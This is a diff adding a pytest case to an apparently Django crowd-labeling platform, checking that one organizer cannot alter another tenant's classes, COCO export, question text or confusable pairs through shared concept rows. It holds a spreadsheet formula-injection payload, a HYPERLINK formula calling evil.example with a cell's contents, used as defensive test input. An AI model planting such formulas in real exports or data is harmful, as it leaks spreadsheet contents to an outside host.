@@ -12,6 +12,7 @@ A cell is one of three expectations:
 
 from __future__ import annotations
 
+import json
 import re
 
 import pytest
@@ -21,11 +22,12 @@ from drf_spectacular.generators import SchemaGenerator
 from rest_framework.test import APIClient
 
 from annotation import queue
+from annotation.models import Dataset
 from benchmark.models import Challenge, ExportJob, SplitVersion
 from candidates.models import CandidateImport
 from consensus.models import Question, QuestionKind
 from crowd.models import StudyLink
-from hierarchy.models import Hierarchy
+from hierarchy.models import Concept, Hierarchy
 from outbox.models import Message, MessageState
 from review.models import Decision, ReviewDecision, ReviewItem, ReviewKind
 from tests import factories
@@ -379,3 +381,123 @@ def test_every_role_gets_what_the_policy_says(world, operation_id, method, path)
             if got != want:
                 wrong.append(f"{role} on {target}'s {url}: {response.status_code}, expected {want}")
     assert not wrong, "\n".join(wrong)
+
+
+# --- Writes through shared rows --------------------------------------------------------------------------------
+# Concepts (and the hierarchies that word their questions) are platform-wide rows, so the paths above cannot
+# show one tenant writing another's data through them: these cases write as organizer A and read what organizer
+# B's dataset shows (its class list, its COCO export, its workers' question text, its confusable pairs).
+
+HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"dog")'
+
+
+def one_node_hierarchy(name: str, version: str, concept_name: str, question: str) -> dict:
+    return {
+        "format": "crowdlabel-hierarchy/1",
+        "name": name,
+        "version": version,
+        "nodes": [
+            {
+                "id": "n02084071",
+                "name": concept_name,
+                "gloss": "",
+                "parents": [],
+                "leaf": True,
+                "question": question,
+            }
+        ],
+    }
+
+
+def what_b_sees(client_b: APIClient, dataset_b, tmp_path) -> dict:
+    from benchmark.exporters import ExportOptions, export
+    from benchmark.selectors import DatasetSource
+    from consensus.models import QuestionKind
+    from consensus.services import question_text
+
+    classes = client_b.get(f"/api/v1/datasets/{dataset_b.pk}/concepts").json()["selected"]
+    out = tmp_path / f"coco-{len(list(tmp_path.iterdir()))}"
+    # The whole dataset, unsplit (the split version the matrix builds assigns no image).
+    manifest = export(
+        DatasetSource(dataset_b, None), "coco", out, ExportOptions(split="all", include_images=False)
+    )
+    (annotations,) = [out / name for name in manifest["files"] if name.startswith("annotations/")]
+    categories = [c["name"] for c in json.loads(annotations.read_text())["categories"]]
+    dog = Concept.objects.get(wnid="n02084071")
+    return {
+        "classes": [(c["wnid"], c["name"], c["gloss"]) for c in classes],
+        "coco categories": categories,
+        "question": question_text(QuestionKind.IMAGE_VERIFY, dog, dataset_b.pk),
+        "hierarchy question": question_text(QuestionKind.HIERARCHY, dog, dataset_b.pk),
+        "pairs": client_b.get(f"/api/v1/datasets/{dataset_b.pk}/confusable-pairs").json(),
+    }
+
+
+def test_organizer_a_cannot_change_what_organizer_b_sees_through_shared_concepts(world, tmp_path):
+    from multilabel.labeling import labeling_start
+
+    users, rows = world
+    client_a, client_b = APIClient(), APIClient()
+    client_a.force_authenticate(users[ORG_A])
+    client_b.force_authenticate(users[ORG_B])
+    dataset_a = Dataset.objects.get(pk=rows["A"]["dataset"])
+    dataset_b = Dataset.objects.get(pk=rows["B"]["dataset"])
+    # B labels with its own hierarchy and picks dog and seal as classes (A's dataset has both too).
+    upload_b = client_b.post(
+        "/api/v1/hierarchy-uploads",
+        one_node_hierarchy("B's classes", "1", "dog", "Is there a dog in this image?"),
+        format="json",
+    )
+    assert upload_b.status_code == 201, upload_b.content
+    seal = factories.ConceptFactory(wnid="n02076196", name="seal")
+    for dataset, client in ((dataset_a, client_a), (dataset_b, client_b)):
+        picked = client.put(
+            f"/api/v1/datasets/{dataset.pk}/concepts", {"concepts": ["n02084071", "n02076196"]}, format="json"
+        )
+        assert picked.status_code == 200, picked.content
+    labeling_start(dataset=dataset_b, hierarchy=Hierarchy.objects.get(pk=upload_b.json()["hierarchy"]))
+    before = what_b_sees(client_b, dataset_b, tmp_path)
+    assert ("n02084071", "dog", "a thing used in tests") in before["classes"]
+    assert "dog" in before["coco categories"]
+    assert before["question"] == "Is there a dog in this image?"
+
+    # A renames the shared concept: refused, without naming B's dataset.
+    renamed = client_a.post(
+        "/api/v1/hierarchy-uploads",
+        one_node_hierarchy("A's classes", "1", HOSTILE_NAME, f"Does this image show a {HOSTILE_NAME}?"),
+        format="json",
+    )
+    assert renamed.status_code == 409, renamed.content
+    assert (
+        "used by other datasets" in renamed.content.decode() and "dataset B" not in renamed.content.decode()
+    )
+    # A re-glosses it: refused the same way.
+    reglossed = one_node_hierarchy("A's classes", "1", "dog", "Is there a dog?")
+    reglossed["nodes"][0]["gloss"] = HOSTILE_NAME
+    assert client_a.post("/api/v1/hierarchy-uploads", reglossed, format="json").status_code == 409
+    # A words the dog question its own way under the stored name: accepted, and A's wording stays A's.
+    worded = client_a.post(
+        "/api/v1/hierarchy-uploads",
+        one_node_hierarchy("A's classes", "2", "dog", f"Does this image show a {HOSTILE_NAME}?"),
+        format="json",
+    )
+    assert worded.status_code == 201, worded.content
+    # A adds a confusable pair of the same two classes, with a note.
+    pair = client_a.post(
+        f"/api/v1/datasets/{dataset_a.pk}/confusable-pairs",
+        {"a": "n02084071", "b": "n02076196", "note": HOSTILE_NAME},
+        format="json",
+    )
+    assert pair.status_code == 201, pair.content
+
+    assert what_b_sees(client_b, dataset_b, tmp_path) == before
+    assert seal.name == Concept.objects.get(wnid="n02076196").name
+    # ... and B removing its own pair never answers with A's dataset's name.
+    mine = client_b.post(
+        f"/api/v1/datasets/{dataset_b.pk}/confusable-pairs",
+        {"a": "n02084071", "b": "n02076196"},
+        format="json",
+    )
+    assert mine.status_code == 201, mine.content
+    gone = client_b.delete(f"/api/v1/datasets/{dataset_b.pk}/confusable-pairs/{mine.json()['id']}")
+    assert gone.status_code == 204 and b"dataset A" not in gone.content
